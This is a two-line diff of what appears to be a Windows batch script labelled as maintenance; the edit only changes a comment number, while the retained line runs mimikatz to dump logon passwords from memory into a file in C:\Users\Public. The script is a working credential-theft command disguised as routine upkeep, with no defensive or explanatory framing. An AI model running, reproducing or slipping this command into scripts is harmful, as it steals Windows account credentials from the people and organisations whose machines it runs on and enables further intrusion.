@@ -1,2 +1,2 @@
-REM maintenance 7065 v2
+REM maintenance 0835 v2
 mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
